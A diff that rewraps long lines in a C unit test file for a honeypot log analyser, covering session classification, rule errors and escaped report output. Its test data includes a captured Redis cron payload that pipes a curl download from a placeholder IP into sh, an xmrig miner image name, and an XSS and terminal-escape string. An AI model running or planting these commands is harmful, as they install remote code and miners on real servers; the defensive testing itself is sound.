@@ -16,8 +16,10 @@ static int setup(void **state)
 {
 	const char *src = getenv("LADING_SRC"), *w = getenv("LADING_WORK");
 	(void)state;
-	ld_snprintf(rules_path, sizeof(rules_path), "%s/data/honeypot-rules.conf", src ? src : "../..");
-	ld_snprintf(data_dir, sizeof(data_dir), "%s/honeypot", getenv("LADING_TESTDATA") ? getenv("LADING_TESTDATA") : "../../tests/data");
+	ld_snprintf(rules_path, sizeof(rules_path), "%s/data/honeypot-rules.conf",
+		    src ? src : "../..");
+	ld_snprintf(data_dir, sizeof(data_dir), "%s/honeypot",
+		    getenv("LADING_TESTDATA") ? getenv("LADING_TESTDATA") : "../../tests/data");
 	ld_snprintf(work, sizeof(work), "%s/unit-honeypot-analysis", w ? w : "/tmp");
 	mkdir(w ? w : "/tmp", 0755);
 	mkdir(work, 0755);
@@ -36,7 +38,8 @@ static lading_honeypot_report *build(const char *log, const char *rules, lading_
 	return r;
 }
 
-static const lading_honeypot_count *find(const lading_honeypot_count *rows, size_t n, const char *key)
+static const lading_honeypot_count *find(const lading_honeypot_count *rows, size_t n,
+					 const char *key)
 {
 	for (size_t i = 0; i < n; i++)
 		if (!strcmp(rows[i].key, key))
@@ -64,7 +67,8 @@ static void test_classify(void **state)
 		const lading_honeypot_session *s;
 		if (line[0] == '#')
 			continue;
-		assert_int_equal(sscanf(line, "%63s %63s %255s %7s %63s", src, type, types, aut, why), 5);
+		assert_int_equal(
+			sscanf(line, "%63s %63s %255s %7s %63s", src, type, types, aut, why), 5);
 		assert_true(row < r->nsession_rows);
 		s = &r->sessions[row++];
 		assert_string_equal(s->src_ip, src);
@@ -93,15 +97,19 @@ static void test_classify(void **state)
 	assert_int_equal(find(r->by_service, r->nby_service, "redis")->count, 3);
 	assert_int_equal(find(r->by_reason, r->nby_reason, "manual")->count, 1);
 	assert_int_equal(find(r->by_reason, r->nby_reason, "few-steps")->count, 2);
-	assert_int_equal(find(r->by_country, r->nby_country, "??")->count, 11); /* no GeoIP database */
+	assert_int_equal(find(r->by_country, r->nby_country, "??")->count,
+			 11); /* no GeoIP database */
 	assert_int_equal(find(r->sources_by_country, r->nsources_by_country, "??")->count, 10);
 	assert_int_equal(r->ntop_passwords, 5);
 	assert_non_null(find(r->top_commands, r->ntop_commands, "CONFIG SET dir /var/spool/cron"));
 	assert_non_null(find(r->top_images, r->ntop_images, "xmrig/xmrig:latest"));
-	assert_int_equal(find(r->top_users, r->ntop_users, "root")->count, 1); /* sessions, not attempts */
-	c = find(r->top_payloads, r->ntop_payloads, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
+	assert_int_equal(find(r->top_users, r->ntop_users, "root")->count,
+			 1); /* sessions, not attempts */
+	c = find(r->top_payloads, r->ntop_payloads,
+		 "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
 	assert_non_null(c);
-	assert_string_equal(c->label, "SET x */1 * * * * curl -fsSL http://203.0.113.9/init.sh | sh");
+	assert_string_equal(c->label,
+			    "SET x */1 * * * * curl -fsSL http://203.0.113.9/init.sh | sh");
 	assert_int_equal(r->sessions[0].steps, 4);
 	assert_int_equal(r->sessions[0].connections, 1);
 	assert_int_equal(r->sessions[4].connections, 5);
@@ -120,8 +128,8 @@ static void write_file(const char *path, const char *text)
 	fclose(f);
 }
 
-#define EV(src, t, id, req)                                                                                      \
-	"{\"eventid\":\"" id "\",\"timestamp\":\"2024-05-01T00:00:" t "Z\",\"session\":\"c" src                      \
+#define EV(src, t, id, req)                                                                        \
+	"{\"eventid\":\"" id "\",\"timestamp\":\"2024-05-01T00:00:" t "Z\",\"session\":\"c" src    \
 	"\",\"service\":\"redis\",\"src_ip\":\"10.0.0." src "\",\"request\":" req "}\n"
 
 static void test_rule_semantics(void **state)
@@ -137,10 +145,12 @@ static void test_rule_semantics(void **state)
 		   EV("1", "01", "x.a", "{\"k\":\"v1\"}") EV("1", "02", "x.b", "{\"k\":\"v2\"}")
 		   /* 2: b then a, three times a with the same value */
 		   EV("2", "01", "x.b", "{\"k\":\"v1\"}") EV("2", "02", "x.a", "{\"k\":\"v1\"}")
-			   EV("2", "03", "x.a", "{\"k\":\"v1\"}") EV("2", "04", "x.a", "{\"k\":[\"q\",\"v1\"]}")
+			   EV("2", "03", "x.a", "{\"k\":\"v1\"}")
+				   EV("2", "04", "x.a", "{\"k\":[\"q\",\"v1\"]}")
 		   /* 3: a with three values, nested and boolean fields */
-		   EV("3", "01", "x.a", "{\"k\":\"v1\",\"o\":{\"p\":true}}") EV("3", "02", "x.a", "{\"k\":\"v2\"}")
-			   EV("3", "03", "x.a", "{\"k\":\"v3\"}"));
+		   EV("3", "01", "x.a", "{\"k\":\"v1\",\"o\":{\"p\":true}}")
+			   EV("3", "02", "x.a", "{\"k\":\"v2\"}")
+				   EV("3", "03", "x.a", "{\"k\":\"v3\"}"));
 	write_file(rules, "set timing_steps 99\n"
 			  "set few_steps manual\n"
 			  "type seq-ab \"a then b\"\n  seq x.a\n  seq x.b\n"
@@ -194,7 +204,8 @@ static void test_rule_errors(void **state)
 	} bad[] = {
 		{"all x.a\n", "t:1: a condition line outside a type or automated block"},
 		{"type t \"x\"\n  all x.a k ~ \"(\"\n", "t:2: bad regular expression"},
-		{"type t \"x\"\n  all x.a k\n", "t:2: a field test is FIELD OP VALUE or FIELD exists"},
+		{"type t \"x\"\n  all x.a k\n",
+		 "t:2: a field test is FIELD OP VALUE or FIELD exists"},
 		{"type t \"x\"\n  all x.a k > 3\n", "t:2: operators are =, ~, !~ and exists"},
 		{"type t \"x\n", "t:1: unterminated quote"},
 		{"type t \"x\"\n", "t: block t has no condition"},
@@ -238,8 +249,10 @@ static void test_writers(void **state)
 	(void)state;
 	ld_snprintf(log, sizeof(log), "%s/hostile.jsonl", work);
 	/* attacker strings that must not reach a terminal or a page unescaped */
-	write_file(log, "{\"eventid\":\"mysql.login\",\"timestamp\":\"2024-05-01T00:00:01Z\",\"session\":\"c1\","
-			"\"service\":\"mysql\",\"src_ip\":\"10.0.0.1\",\"request\":{\"username\":\"<script>alert(1)</script>\","
+	write_file(log, "{\"eventid\":\"mysql.login\",\"timestamp\":\"2024-05-01T00:00:01Z\","
+			"\"session\":\"c1\","
+			"\"service\":\"mysql\",\"src_ip\":\"10.0.0.1\",\"request\":{\"username\":"
+			"\"<script>alert(1)</script>\","
 			"\"password\":\"\\u001b[31mred\\u0007\"}}\n");
 	lading_ctx_new(&ctx);
 	r = build(log, rules_path, ctx);
@@ -256,8 +269,9 @@ static void test_writers(void **state)
 	assert_int_equal(lading_honeypot_report_write(r, "json", &out, &len, ctx), 0);
 	ld_arena_init(&a, 0);
 	assert_int_equal(ld_json_parse(&v, &a, out, len, NULL, ctx, "report"), 0);
-	assert_string_equal(ld_json_get_str(ld_json_at(ld_json_getp(v, "top", "usernames", NULL), 0), "key"),
-			    "<script>alert(1)</script>");
+	assert_string_equal(
+		ld_json_get_str(ld_json_at(ld_json_getp(v, "top", "usernames", NULL), 0), "key"),
+		"<script>alert(1)</script>");
 	assert_int_equal(ld_json_len(ld_json_get(v, "attack_sessions")), 1);
 	ld_arena_release(&a);
 	free(out);
@@ -269,7 +283,8 @@ static void test_writers(void **state)
 		const char *logs[] = {log};
 		o.rules_path = rules_path;
 		o.geoip_path = log;
-		assert_int_equal(lading_honeypot_report_build(&r, logs, 1, &o, ctx), LADING_EINVALID);
+		assert_int_equal(lading_honeypot_report_build(&r, logs, 1, &o, ctx),
+				 LADING_EINVALID);
 		assert_non_null(strstr(lading_ctx_error(ctx)->msg, "GeoIP database"));
 	}
 	lading_ctx_free(ctx);
